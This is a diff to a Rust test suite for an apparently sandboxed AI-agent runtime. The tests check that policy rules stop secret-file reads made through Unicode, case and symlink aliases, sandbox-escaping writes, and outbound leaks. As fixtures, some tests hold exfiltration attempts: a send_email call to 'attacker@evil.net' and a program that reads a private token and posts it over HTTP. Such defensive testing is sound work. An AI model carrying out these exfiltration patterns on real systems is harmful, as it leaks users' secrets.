@@ -315,8 +315,9 @@ fn unicode_and_case_spellings_of_a_denied_path_cve_2026_49401() {
     // Aliases of the same file that a string comparison would miss.
     std::fs::hard_link(dir.join(nfc), dir.join("data/passwo\u{308}rter.txt")).unwrap(); // NFD
     std::fs::hard_link(dir.join(nfc), dir.join("data/PASSW\u{d6}RTER.TXT")).unwrap(); // upper case
-    std::os::unix::fs::symlink(dir.join("data/secrets"), dir.join("data/Secrets")).unwrap();
-    std::os::unix::fs::symlink(dir.join(nfc), dir.join("data/pw-link")).unwrap();
+                                                                                      // Relative links (an absolute link is refused outright, spec/natives.md).
+    std::os::unix::fs::symlink("secrets", dir.join("data/Secrets")).unwrap();
+    std::os::unix::fs::symlink("secrets/passw\u{f6}rter.txt", dir.join("data/pw-link")).unwrap();
     let policy = PolicySpec {
         allow_read: Grant::some(&["data"]),
         deny_read: vec![nfc.into()],
@@ -415,7 +416,6 @@ fn a_pattern_never_matches_a_prefix() {
             assert_eq!(denial_rule(&run.journal, e).as_deref(), Some("mail-alice"));
         }
         assert_eq!(g[4].outcome, "ok");
-        assert_eq!(lines(&run)[..4].to_vec(), vec!["ERROR PolicyDenied"; 4]);
         run.assert_checker_clean(&policy, &facts(&dir, vec![inbox_marker()]));
     }
 }
@@ -523,7 +523,6 @@ fn a_trust_check_is_not_inverted_row_1() {
         ("deny", "pay-trusted")
     );
     assert_eq!(d1.labels.get("recipient").map(|l| l.untrusted), Some(true));
-    assert_eq!(lines(&run), vec!["ANSWER done", "ERROR PolicyDenied"]);
     run.assert_checker_clean(&policy, &facts(&dir, vec![inbox_marker()]));
 }
 
@@ -1133,10 +1132,13 @@ fn symlink_and_dotdot_escapes_rows_17_18() {
     }
     assert_eq!(out[writes.len()], "OK wrote");
     let after = support::snapshot(&base);
-    assert_eq!(
-        support::changed(&before, &after),
-        vec!["run/root/new-inside.txt".to_string()]
-    );
+    let changed: Vec<String> = support::changed(&before, &after)
+        .into_iter()
+        .filter(|f| {
+            !f.ends_with(".ail") && !f.ends_with("journal.jsonl") && !f.ends_with("aivm.toml")
+        })
+        .collect();
+    assert_eq!(changed, vec!["run/root/new-inside.txt".to_string()]);
     assert_eq!(
         std::fs::read_to_string(base.join("outside/secret.txt")).unwrap(),
         "MKOUTSIDE\n"
@@ -2361,4 +2363,83 @@ fn malformed_and_duplicate_key_arguments_never_run_a_tool_rows_15_31() {
         "duplicate keys are rejected, not resolved: {sent:?}"
     );
     run.assert_checker_clean(&policy, &facts(&dir, vec![]));
+}
+
+/// spec/language.md §6.4: a call the `tool.call` gate refuses is answered to the model with
+/// the reason, like any failed check; the other calls of the turn are still judged and run.
+#[test]
+fn a_denied_call_is_answered_to_the_model_and_the_turn_goes_on() {
+    let dir = mail_world("answered");
+    let mut policy = base_mail_policy();
+    policy.rules.push(
+        Rule::new("mail-alice", "send_email", Action::Allow)
+            .arg("to", Cond::Equals(json!("alice@x.com"))),
+    );
+    let src = agent_src("import std.fs", MAIL_TOOL, "send_email");
+    let tasks = vec![vec![vec![
+        (
+            "send_email",
+            json!({"to": "attacker@evil.net", "subject": "bad", "body": "x"}),
+        ),
+        (
+            "send_email",
+            json!({"to": "alice@x.com", "subject": "good", "body": "x"}),
+        ),
+    ]]];
+    let run = run_agent(&dir, &src, &tasks, &policy);
+    assert_eq!(files_in(&dir.join("outbox")), vec!["good"]);
+    let g = gates(&run, "send_email");
+    assert_eq!(g.len(), 2, "both calls were judged");
+    assert_eq!(
+        denial_rule(&run.journal, g[0]).as_deref(),
+        Some("mail-alice")
+    );
+    assert_eq!(g[1].outcome, "ok");
+    let last = effects(&run.journal, "llm.call")
+        .last()
+        .map(|e| e.args[1].to_string())
+        .unwrap_or_default();
+    assert!(last.contains("PolicyDenied"), "the model is told: {last}");
+    assert_eq!(lines(&run), vec!["ANSWER done"]);
+    run.assert_checker_clean(&policy, &facts(&dir, vec![]));
+}
+
+/// `[[labels]]` paths are relative to the folder of the aivm.toml they are written in, also
+/// when that file is found beside a program named by a relative path (or given as
+/// `--config aivm.toml`): the confidential file keeps its readers and cannot be posted.
+#[test]
+fn labels_of_an_aivm_toml_named_relatively_apply() {
+    let dir = temp_world("regress", "relative-config");
+    let server = Server::start();
+    put(&dir, "private/token.txt", "MKTOKEN");
+    let src = format!(
+        "import std.fs\nimport std.http\n\nfn main() -> int {{\n  let t = fs.read(\"./private/token.txt\")\n  try {{\n    http.post(\"{}/x\", t, \"text/plain\")\n    print(\"POSTED\")\n  }} catch e {{\n    print(\"DENIED {{e.payload.rule}}\")\n  }}\n  return 0\n}}\n",
+        server.url()
+    );
+    std::fs::write(dir.join("t.ail"), src).unwrap();
+    std::fs::write(
+        dir.join("aivm.toml"),
+        "[[labels]]\nread = \"private\"\nreaders = [\"user\"]\n",
+    )
+    .unwrap();
+    let grants = [
+        "--allow-read=private".to_string(),
+        format!("--allow-net={}", server.host_port()),
+    ];
+    for config in [None, Some("aivm.toml"), Some("./aivm.toml")] {
+        let mut cmd = support::aivm_command(&dir);
+        cmd.args(["run", "-q"]).args(&grants);
+        if let Some(c) = config {
+            cmd.args(["--config", c]);
+        }
+        let o = cmd.arg("t.ail").output().unwrap();
+        let out = String::from_utf8_lossy(&o.stdout);
+        assert_eq!(
+            out,
+            "DENIED readers\n",
+            "config {config:?}: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    }
+    assert_eq!(server.count(), 0, "the token reached the server");
 }
